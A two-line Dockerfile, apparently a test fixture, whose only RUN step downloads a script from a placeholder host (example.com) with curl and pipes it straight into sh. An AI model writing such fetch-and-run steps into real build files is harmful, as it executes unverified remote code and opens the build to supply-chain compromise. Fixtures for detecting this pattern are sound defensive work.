FROM debian:12
RUN { echo set -e; curl -s https://example.com/x; } | sh
